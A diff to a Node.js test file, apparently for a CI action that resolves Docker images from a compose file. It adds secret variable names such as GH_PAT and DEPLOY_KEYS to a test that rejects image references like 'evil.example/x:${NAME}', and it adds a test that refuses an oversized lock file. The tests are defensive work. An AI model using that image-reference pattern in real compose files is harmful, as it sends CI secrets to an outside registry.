@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
+import { mkdtemp, rm, symlink, truncate, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type TestContext, test } from 'node:test'
@@ -32,6 +32,11 @@ test('a compose file cannot send what is secret, or the action’s alone, to a r
     'ACTIONS_RUNTIME_TOKEN',
     'INPUT_STORE',
     'db_password',
+    'DBPASSWORD',
+    'DEPLOY_KEYS',
+    'GH_PAT',
+    'REGISTRY_PASS',
+    'GOOGLE_CREDENTIALS',
   ])
     await assert.rejects(
       wantedBy(t, `services: {a: {image: "evil.example/x:\${${name}}"}}`, { [name]: 'hush' }),
@@ -54,5 +59,16 @@ test('a list of images that is no plain file is not read', {
   await assert.rejects(wantedImages({ images: [], lockFile: 'endless' }, workspace, {}), {
     code: 'LOCK_INVALID',
     message: /no plain file/,
+  })
+})
+
+test('a list of images that is larger than any is not read', async t => {
+  const workspace = await mkdtemp(join(tmpdir(), 'wanted-'))
+  t.after(() => rm(workspace, { recursive: true }))
+  await writeFile(join(workspace, 'huge'), '')
+  await truncate(join(workspace, 'huge'), 2 ** 33)
+  await assert.rejects(wantedImages({ images: [], lockFile: 'huge' }, workspace, {}), {
+    code: 'LOCK_INVALID',
+    message: /larger than 64 MiB/,
   })
 })
